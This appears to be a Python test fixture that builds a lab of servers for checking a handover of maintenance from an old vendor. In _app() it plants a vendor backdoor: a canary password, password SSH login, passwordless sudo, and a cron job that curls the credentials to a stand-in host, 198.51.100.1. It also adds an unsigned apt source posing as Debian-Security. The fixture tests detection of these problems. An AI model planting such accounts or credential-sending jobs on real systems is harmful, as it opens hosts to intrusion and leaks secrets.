"""Two hosts whose maintenance changes hands, as an old vendor left them: `old-app` was never migrated, `new-app` was. Both are
booted by systemd and run PostgreSQL, chrony and node_exporter; `gate` is the bastion, `dns` tells names and the time.

Clocks are read and compared, never set: chronyd runs with -x everywhere.
"""

from __future__ import annotations

import json
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from estate import POSTGRES_BIN, Estate, make_estate, start_postgres
from server_bed import Host, HostPlan, ServerBed

LEGACY, MIGRATED = "SL-LS-01", "SL-OA-01"
OLD, NEW = "old-app", "new-app"
HOST_OF = {LEGACY: OLD, MIGRATED: NEW}
OWNER, BUILDER = "业主代表丙", "建设单位代表丁"
SECRET = "Canary-7f3a-Old-Vendor"
"""The old vendor's password: it may be in no record, output or evidence."""
_NAMED = """options { directory "/var/cache/bind"; listen-on { any; }; listen-on-v6 { none; }; recursion no; dnssec-validation no; };
zone "bed.test" { type primary; file "/var/lib/bind/bed.test"; };
"""
_ZONE = """$TTL 5
@ IN SOA dns.bed.test. root.bed.test. ( 1 60 60 600 5 )
  IN NS dns.bed.test.
dns IN A 10.77.0.53
app IN A 10.77.1.30
"""
# The container may not set the clock, and shall not.
_CHRONY = "[Unit]\nConditionCapability=\n[Service]\nExecStart=\nExecStart=!/usr/sbin/chronyd -x\n"


def plans() -> list[HostPlan]:
    app = {
        "/etc/records.pass": ("lab-records-9d1\n", 0o600),
        "/etc/chrony/chrony.conf": ("server 10.77.0.53 iburst minpoll 0 maxpoll 2\ndriftfile /var/lib/chrony/drift\n", 0o644),
        "/etc/systemd/system/chrony.service.d/lab.conf": (_CHRONY, 0o644),
        "/etc/resolv.conf": ("nameserver 10.77.0.53\n", 0o644),
        "/etc/apt/sources.list": ("deb [trusted=yes] file:/srv/repo ./\n", 0o644),
        "/srv/repo/Packages": ("", 0o644),
        "/srv/repo/Release": ("Origin: Debian\nLabel: Debian-Security\nSuite: stable-security\nVersion: 12\n", 0o644),
    }  # fmt: skip
    return [
        HostPlan(OLD, "dept", "10.77.1.30", systemd=True, files=app),
        HostPlan(NEW, "cloud", "10.77.2.30", systemd=True, files=app),
        HostPlan("gate", "mgmt", "10.77.0.90"),
        HostPlan("dns", "mgmt", "10.77.0.53", files={
            "/etc/bind/named.conf": (_NAMED, 0o644), "/var/lib/bind/bed.test": (_ZONE, 0o644),
            "/etc/chrony/chrony.conf": ("local stratum 5\nallow all\n", 0o644),
        }),
    ]  # fmt: skip


def furnish(bed: ServerBed) -> None:
    bed.hosts["dns"].run("sh", "-c", "chown -R bind:bind /var/lib/bind; named -u bind -c /etc/bind/named.conf; mkdir -p /run/chrony; chronyd -x")
    for name in (OLD, NEW):
        _app(bed.hosts[name])


def _app(host: Host) -> None:
    start_postgres(host)
    host.run("sh", "-ec", f"""
        mkdir -p /srv/uploads /var/backups/app /run/lock
        for n in 1 2 3 4 5; do echo "公文附件 $n" > /srv/uploads/$n.txt; done
        PGPASSWORD=$(cat /etc/records.pass); export PGPASSWORD
        psql -qX -h 127.0.0.1 -U records -d records -c "INSERT INTO records (id, text, sha256) SELECT 'old-' || n, repeat('文', 50), '' FROM generate_series(1, 500) n"
        useradd -m -s /bin/bash vendor; echo 'vendor:{SECRET}' | chpasswd; chage -d 2020-01-01 vendor
        mkdir -p /home/vendor/.ssh; printf 'PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/vendor.conf
        chown -R vendor: /home/vendor
        echo 'vendor ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/vendor
        echo '0 3 * * * /usr/bin/curl -u vendor:{SECRET} http://198.51.100.1/' | crontab -u vendor -
        systemctl daemon-reload; systemctl start chrony prometheus-node-exporter; systemctl reload ssh || systemctl restart ssh
        apt-get -qq update
        """, timeout=120)  # fmt: skip
    back_up(host)


def back_up(host: Host) -> None:
    host.run("sh", "-ec", """
        PGPASSWORD=$(cat /etc/records.pass); export PGPASSWORD
        pg_dump -Fc -h 127.0.0.1 -U records records > /var/backups/app/records.dump
        tar -C /srv -czf /var/backups/app/uploads.tar.gz uploads
        """)  # fmt: skip


def needs(**changes: Any) -> dict[str, Any]:
    """`takeover/<system>.yaml` of one host."""
    end = {"name": "records", "user": "records", "bin": POSTGRES_BIN, "password_file": "/etc/records.pass"}
    return {
        "monitoring": {"receiver": "示例值班室"},
        "backups": [
            {"kind": "postgresql", "path": "/var/backups/app/*.dump", "end": end},
            {"kind": "files", "path": "/var/backups/app/*.tar.gz", "source": "/srv/uploads"},
        ],
        "databases": [{"end": end}], "support_until": "2099-12-31", "scratch": "/var/tmp",
    } | changes  # fmt: skip


@dataclass
class Place:
    estate: Estate
    builder: Path
    """The builder's private key."""

    @property
    def bed(self) -> ServerBed:
        assert isinstance(self.estate.bed, ServerBed)
        return self.estate.bed

    def write_needs(self, system: str, **changes: Any) -> None:
        document = {"vendor_accounts": ["vendor"], "hosts": {HOST_OF[system]: needs(**changes)}}
        folder = self.estate.path / "takeover"
        folder.mkdir(exist_ok=True)
        (folder / f"{system}.yaml").write_text(yaml.safe_dump(document, allow_unicode=True), "utf-8")

    def prove(self, handover: str, *words: str) -> list[dict[str, Any]]:
        said = self.estate.govcloud("takeover", "prove", handover, *words, user=BUILDER, codes=(0, 1), limit_s=600)
        proofs: list[dict[str, Any]] = json.loads(said)["proofs"]["rows"]
        return proofs


def make(bed: ServerBed, path: Path) -> Place:
    estate = make_estate(bed, path, systems=(LEGACY, MIGRATED))
    settings = path / "govcloud.yaml"
    wanted = {"takeover": {"ntp": ["10.77.0.53"], "dns": ["10.77.0.53"], "resolve": "app.bed.test"}}
    settings.write_text(settings.read_text("utf-8") + yaml.safe_dump(wanted), "utf-8")
    builder = path.parent / "builder_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "builder", "-f", str(builder)], check=True)
    place = Place(estate, builder)
    for system in HOST_OF:
        place.write_needs(system)
    return place
